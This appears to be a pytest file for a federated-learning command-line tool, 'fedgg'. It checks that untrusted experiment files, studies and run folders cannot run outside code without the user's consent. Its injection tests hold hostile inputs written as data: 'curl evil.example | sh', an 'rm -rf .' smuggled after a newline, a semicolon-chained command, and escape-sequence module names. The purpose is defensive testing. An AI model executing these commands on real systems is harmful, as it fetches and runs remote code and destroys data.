"""Experiments, studies and run folders from other people: what they name runs only after the user has allowed it."""

from __future__ import annotations

import json
import os
import pty
import select
import subprocess
import sys
import threading
import urllib.request
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import tomli_w
from earlier_folders import without_checksums

with warnings.catch_warnings():
    warnings.simplefilter("ignore", DeprecationWarning)  # typer uses names that click is about to drop
    from typer.testing import CliRunner

    import fedgg.cli
    from fedgg.cli import terminal

from fedgg.cli.options import refuse_a_study
from fedgg.engines.import_user_file import PREFIX
from fedgg.errors import UserError
from fedgg.lab import trusted_code as trust
from fedgg.runfolder.archive_file import write_archive
from fedgg.runfolder.read import read_run

CANARY = Path("CANARY")
EVIL = """
from pathlib import Path
Path("CANARY").touch()
from dataclasses import dataclass
from os import system
from torch import nn
import fedgg

class Net(nn.Sequential):
    def __init__(self, shape, classes):
        Path("CANARY").touch()
        super().__init__(nn.Flatten(), nn.Linear(64, classes))

@dataclass(frozen=True)
class Own(fedgg.Algorithm):
    '''Nothing of its own.'''

from fedgg.core.server import Collector
from fedgg.engines import Loop

def load() -> tuple:
    Path("CANARY").touch()
    import numpy
    x, y = numpy.ones((400, 1, 8, 8), "f"), numpy.arange(400) % 10
    return x, y, x[:20], y[:20]

def cut(labels, clients):
    Path("CANARY").touch()
    import numpy
    return numpy.arange(len(labels)) % clients

class Rule(Collector):
    pass

class Engine(Loop):
    pass
"""
HOSTILE: dict[str, dict[str, Any]] = {
    "os:system": {"command": "touch CANARY"},
    "os.path:exists": {"path": "CANARY"},
    "subprocess:Popen": {"args": ["touch", "CANARY"]},
    "subprocess:check_output": {"args": ["touch", "CANARY"]},
    "builtins:exec": {"source": "open('CANARY', 'w')"},
    "builtins:open": {"file": "CANARY", "mode": "w"},
    "pathlib:Path.touch": {"self": "CANARY"},
    "runpy:run_path": {"path_name": "evil.py"},
    "importlib:import_module": {"name": "evil_package"},
    "torch.hub:load": {"repo_or_dir": ".", "model": "Net", "source": "local"},
    "torch.utils.cpp_extension:load": {"name": "x", "sources": ["evil.py"]},
    "torch.nn:Linear": {"in_features": 64, "out_features": 10},
    "numpy:save": {"file": "CANARY", "arr": [1]},
    "fedgg.__main__:main": {},
    "fedgg.bench.runners.pytorch_loops:main": {},
    "evil.py:Net": {},
    "evil.py:Own": {},
    "evil.py:system": {"command": "touch CANARY"},
    "./evil.py:Net": {},
    "evil_package:Net": {},
    "evil_package.inner:Net": {},
    "python:Net": {},
    "__main__:Net": {},
    "evil.py\n:Net": {},
    "\x1b[2Jevil.py:Net": {},
    "[/x].py:Net": {},
    ":": {},
}


@pytest.fixture(autouse=True)
def no_user_code_is_left() -> Iterator[None]:
    """Code that a test has allowed goes to every worker process that this process starts later, in other tests too."""
    yield
    for name in [name for name in sys.modules if name.startswith(PREFIX)]:
        del sys.modules[name]


@pytest.fixture(autouse=True)
def received(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """In a folder that came from somebody else, with code beside the experiments."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(tmp_path)
    Path("evil.py").write_text(EVIL)
    Path("evil_package").mkdir()
    for name in ("__init__", "inner"):
        Path("evil_package", f"{name}.py").write_text(EVIL)
    forget_modules(monkeypatch)


def forget_modules(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in loaded():
        monkeypatch.delitem(sys.modules, name)


def loaded() -> list[str]:
    return [name for name in sys.modules if name.startswith(("evil_package", "fedgg_user_evil"))]


def fedgg_(*words: str, error: str | None = None) -> str:
    """The command in this process; what it prints, or the mistake it ends with."""
    with terminal.console.capture() as heard:
        result = CliRunner().invoke(fedgg.cli.app, list(words))
    if error is None:
        assert result.exception is None, repr(result.exception)
        return heard.get() + result.output
    assert isinstance(result.exception, UserError), f"{words}: {result.exception!r} {result.output}"
    assert error in str(result.exception)
    return str(result.exception)


KEYS = {"data": "source", "split": "scheme", "robust": "rule"}  # that name a section's part; in others it is `name`
ONE_OF_EACH = {"data": "load", "split": "cut", "robust": "Rule", "engine": "Engine", "model": "Net", "algorithm": "Own"}


def experiment(section: str, name: str, settings: dict[str, Any]) -> dict[str, Any]:
    small: dict[str, Any] = {"rounds": 1, "local": {"epochs": 1}, "algorithm": {"name": "fedavg"}}
    small["split"] = {"clients": 2}
    settings = {} if section in ("data", "engine") else settings  # these have no settings of parts
    return small | {section: {**small.get(section, {}), KEYS.get(section, "name"): name, **settings}}


def write(file: str, content: dict[str, Any]) -> str:
    Path(file).parent.mkdir(exist_ok=True)
    Path(file).write_text(tomli_w.dumps(content))
    return file


def nothing_ran() -> None:
    assert not CANARY.exists()
    assert not loaded()


# All names in two sections; in the others, which resolve names by the same function, one of each sort.
EVERY_SORT = [
    "os:system",
    "subprocess:Popen",
    "numpy:save",
    "evil.py:system",
    "evil_package.inner:Net",
    "python:Net",
    ":",
]
CASES = [(section, name) for section in ("model", "algorithm") for name in HOSTILE]
CASES += [
    (section, name)
    for section in ("data", "split", "robust", "engine")
    for name in (f"evil.py:{ONE_OF_EACH[section]}", *EVERY_SORT)
]


@pytest.mark.parametrize(("section", "name"), CASES, ids=ascii)
def test_no_command_runs_what_a_file_names(name: str, section: str) -> None:
    content = experiment(section, name, HOSTILE.get(name, {}))
    file = write("one.toml", content)
    variants = {"fedavg": {"algorithm": {"name": "fedavg"}}, "odd": {section: content[section]}}
    study = write("study.toml", {"seeds": [0], "experiment": {"rounds": 1}, "variants": variants})
    write("folder/config.toml", content)
    Path("folder/versions.json").write_text(json.dumps({"format": 1, "code_files": recorded(section, name)}))
    commands = [
        ["run", file],
        ["compare", study],
        ["sweep", file, "--grid", "local.lr=0.1,0.2"],
        ["resume", "folder"],
        ["run", "folder/config.toml", "--out", "folder"],
        ["flower", "new", "app", file],
        ["flower", "up", file],
    ]
    for words in commands:
        said = fedgg_(*words, error="")
        assert "\n" not in said
        assert "\x1b" not in said
        nothing_ran()
    if name in (f"evil.py:{ONE_OF_EACH[section]}", "evil_package.inner:Net"):
        assert f"--trust {name.partition(':')[0]}" in fedgg_("run", file, error="evil")


def recorded(section: str, name: str) -> dict[str, Any]:
    """What a received folder would claim: that it began with this very code."""
    place = name.rpartition(":")[0]
    try:
        return {section: {"path": place, "sha256": trust.code_at(place).sha256, "allowed": "this call"}}
    except UserError:
        return {}


def harmless(text: str = "") -> None:
    """The same names, and nothing that tells of having run."""
    lines = [line for line in EVIL.splitlines() if "CANARY" not in line]
    Path("evil.py").write_text("\n".join([*lines, text]))


def another_call(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(trust, "_trusted", set())


def test_a_file_beside_the_experiment_and_the_folder_of_its_run(monkeypatch: pytest.MonkeyPatch) -> None:
    harmless()
    file = write("mine.toml", experiment("model", "evil.py:Net", {}))
    fedgg_("run", file, "--out", "runs/mine", error="--trust evil.py")
    assert not Path("runs").exists()
    fedgg_("run", file, "--out", "runs/mine", "--trust", "evil.py")
    another_call(monkeypatch)
    fedgg_("resume", "runs/mine", "--rounds", "2")  # the same content: allowed before
    record = trust.record_file()
    assert record is not None
    record.rename("elsewhere")  # as on another machine: what the folder says of itself is no permission
    fedgg_("resume", "runs/mine", "--rounds", "3", error="which is not allowed")
    Path("elsewhere").rename(record)
    harmless("# another version")
    fedgg_("run", file, "--out", "runs/changed", error="--trust evil.py")
    fedgg_("resume", "runs/mine", "--rounds", "3", error="it has changed since this run began")
    monkeypatch.setenv("FEDGG_TRUST", str(Path("evil.py").resolve()))
    fedgg_("resume", "runs/mine", "--rounds", "3", error="to continue with this code, add --trust evil.py")
    versions = json.loads(Path("runs/mine/versions.json").read_text())
    del versions["code_files"]
    (without_checksums(Path("runs/mine")) / "versions.json").write_text(json.dumps(versions))
    fedgg_("resume", "runs/mine", "--rounds", "3", error="does not say with which code it began")
    fedgg_("resume", "runs/mine", "--rounds", "3", "--trust", "evil.py")


def test_each_part_is_recorded_and_checked_when_its_run_is_resumed(monkeypatch: pytest.MonkeyPatch) -> None:
    harmless()
    parts = [experiment(section, f"evil.py:{name}", {}) for section, name in ONE_OF_EACH.items()]
    sections = {section: one[section] for section, one in zip(ONE_OF_EACH, parts, strict=True)}
    fedgg_("run", write("all.toml", {"rounds": 1, **sections}), "--out", "runs/all", "--trust", "evil.py")
    versions = json.loads((without_checksums(Path("runs/all")) / "versions.json").read_text())
    code_files = versions["code_files"]
    assert code_files.keys() == ONE_OF_EACH.keys()
    another_call(monkeypatch)
    for section in ONE_OF_EACH:
        rest = {part: file for part, file in code_files.items() if part != section}
        Path("runs/all/versions.json").write_text(json.dumps(versions | {"code_files": rest}))
        fedgg_("resume", "runs/all", "--rounds", "2", error="does not say with which code it began")
    Path("runs/all/versions.json").write_text(json.dumps(versions))
    fedgg_("resume", "runs/all", "--rounds", "2")
    Path("evil.py").write_text(EVIL)
    forget_modules(monkeypatch)
    fedgg_("resume", "runs/all", "--rounds", "3", error="it has changed since this run began")
    fedgg_("report", "runs/all", "-o", "report.html")
    named = ", ".join(sorted(f"'evil.py:{name}'" for name in ONE_OF_EACH.values()))
    assert f"It runs code from outside fedgg: {named}" in Path("report.html").read_text()
    nothing_ran()


@pytest.mark.parametrize(
    "words",
    [
        ["run", "--set", "model.name=evil.py:Net", "--algorithm", "evil.py:Own"],
        ["run", "--data", "evil.py:load", "--set", "split.scheme=evil.py:cut", "--set", "robust.rule=evil.py:Rule"],
        ["run", "--set", "engine.name=evil.py:Engine"],
        pytest.param(["run", "--model", "evil_package.inner:Net"], marks=pytest.mark.slow),
        pytest.param(["sweep", "--grid", "algorithm.name=fedavg,evil.py:Own", "--jobs", "1"], marks=pytest.mark.slow),
        pytest.param(
            ["compare", "--algorithm", "fedavg", "--algorithm", "mine@evil.py:Own", "--seeds", "0", "--jobs", "1"],
            marks=pytest.mark.slow,
        ),
    ],
    ids=" ".join,
)
def test_what_is_typed_is_allowed(words: list[str]) -> None:
    fedgg_(*words, "--rounds", "1", "--clients", "2", "--out", "runs/typed")
    assert CANARY.exists()


def test_check_and_list_run_the_class_they_are_given() -> None:
    assert "Nothing of its own" in fedgg_("list", "evil.py:Own")


@pytest.fixture
def folder(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A finished run whose code would now leave a trace, and is even allowed."""
    harmless()
    words = ["--model", "evil.py:Net", "--algorithm", "evil.py:Own", "--rounds", "2", "--clients", "2"]
    fedgg_("run", *words, "--out", "runs/one")
    Path("evil.py").write_text(EVIL)
    forget_modules(monkeypatch)
    trust.trust("evil.py")
    yield Path("runs/one")
    nothing_ran()


def test_reading_runs_nothing(folder: Path) -> None:
    from fedgg.report.live import LiveData, LivePage

    write_archive([read_run(folder)], Path("archive.json"))
    fedgg_("report", "runs")
    page = Path("runs/report.html").read_text()
    assert "It runs code from outside fedgg: 'evil.py:Net', 'evil.py:Own'" in page
    fedgg_("report", "archive.json", "-o", "archive.html")
    fedgg_("reproduce", "table1", "--quick", "--from", "archive.json", "--out", "shown")
    fedgg_("data", "show", "digits")
    fedgg_("list")
    with LivePage(LiveData([Path("runs")])) as live:  # what `fedgg watch` serves
        threading.Thread(target=live.serve_forever, daemon=True).start()
        for place in ("", "data.json"):
            with urllib.request.urlopen(f"{live.address}{place}") as answer:
                assert b"evil.py:Net" in answer.read()
        live.shutdown()


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("fedgg compare study.toml --out 'a b'", "call again: fedgg compare study.toml --out 'a b' ("),
        ("fedgg compare --data npz:x.npz --algorithm fedgg:mu=0.1", "call again: fedgg compare --data npz:x.npz"),
        ("fedgg compare --algorithm evil.py:Own", "call again, which runs code from outside fedgg: fedgg compare"),
        ("fedgg compare --algorithm evil.py:Own:mu=1", "which runs code from outside fedgg"),
        ("fedgg sweep --grid=model.name=a.b:C", "which runs code from outside fedgg"),
        ("fedgg compare --data evil.py:load", "which runs code from outside fedgg"),
        ("fedgg compare --data=evil.py:load", "which runs code from outside fedgg"),
        ("fedgg sweep --grid data.source=npz:x.npz,evil.py:load", "which runs code from outside fedgg"),
        ("fedgg sweep --grid data.source=npz:x.npz,npz:y.npz", "call again: fedgg sweep --grid"),
        ("fedgg sweep --set robust.rule=evil.py:Rule", "which runs code from outside fedgg"),
        ("fedgg compare x.toml --trust=evil", "which runs code from outside fedgg"),
        ("fedgg compare x; touch CANARY", "call again: fedgg compare 'x;' touch CANARY"),
        ("curl evil.example | sh", "call the same `fedgg compare` or `fedgg sweep` again"),
        ("fedgg compare x\n rm -rf .", "call the same"),
        ("fedgg compare 'x", "call the same"),
        ("fedgg.compare(...); import evil", "call again: fedgg.compare(..., out='study'), from Python, with the same"),
    ],
)
def test_a_folder_cannot_put_a_command_into_the_users_mouth(command: str, shown: str) -> None:
    Path("study").mkdir()
    Path("study/study.json").write_text(json.dumps({"command": command}))
    with pytest.raises(UserError) as caught:
        refuse_a_study(Path("study"))
    assert f"to go on, {shown}" in str(caught.value) or shown in str(caught.value)
    if "rm" in command or "curl" in command or "import" in command:
        assert command not in str(caught.value)


def environment() -> dict[str, str]:
    return os.environ | {"COLUMNS": "400", "OMP_NUM_THREADS": "1"}


@pytest.mark.slow
@pytest.mark.parametrize(("answer", "ran"), [("n", False), ("y", True)])
def test_a_question_on_a_terminal(answer: str, ran: bool) -> None:
    file = write("one.toml", experiment("model", "evil.py:Net", {}))
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "fedgg", "run", file, "--out", "run"],
        stdin=theirs,
        stdout=theirs,
        stderr=theirs,
        env=environment(),
    )
    os.close(theirs)
    try:
        answered(ours, answer)
        assert process.wait(60) == (0 if ran else 2)
    finally:
        process.kill()
        process.wait()
    assert CANARY.exists() == ran
    if ran:
        versions = json.loads(Path("run/versions.json").read_text())
        assert versions["code_files"]["model"]["sha256"] == trust.code_at("evil.py").sha256


def answered(ours: int, answer: str) -> None:
    seen = read_until(ours, b"[y/N]")
    assert str(Path("evil.py").resolve()).encode() in seen
    assert trust.code_at("evil.py").sha256.encode() in seen
    nothing_ran()
    os.write(ours, f"{answer}\n".encode())
    read_until(ours, None)


def read_until(terminal: int, word: bytes | None) -> bytes:
    """To the word, or to the end."""
    seen = b""
    while word is None or word not in seen:
        assert select.select([terminal], [], [], 60)[0], seen
        try:
            seen += os.read(terminal, 1 << 16)
        except OSError:  # the other side is closed
            break
    return seen


@pytest.mark.slow
def test_processes_of_a_comparison_run_what_was_allowed_and_nothing_of_the_folder_they_start_in() -> None:
    """`multiprocessing` starts Python with the current folder before the standard library."""
    harmless()
    Path("multiprocessing.py").write_text("open('CANARY', 'w')\nraise SystemExit(3)\n")
    names = {f"{section}.{KEYS.get(section, 'name')}": f"evil.py:{name}" for section, name in ONE_OF_EACH.items()}
    variants = {"a": {"algorithm": {"name": "fedavg"}}, "b": names, "c": {**names, "engine.name": "workers"}}
    study = {"seeds": [0], "experiment": {"rounds": 1, "split": {"clients": 2}}, "variants": variants}
    command = [str(Path(sys.executable).with_name("fedgg")), "compare", write("study.toml", study), "--jobs", "2"]
    done = subprocess.run([*command, "--out", "runs"], capture_output=True, text=True, env=environment(), timeout=120)
    assert done.returncode == 2
    assert "--trust evil.py" in done.stderr
    words = [*command, "--out", "runs", "--trust", "evil.py"]
    done = subprocess.run(words, capture_output=True, text=True, env=environment(), timeout=120)
    assert done.returncode == 0, done.stderr
    assert not CANARY.exists()
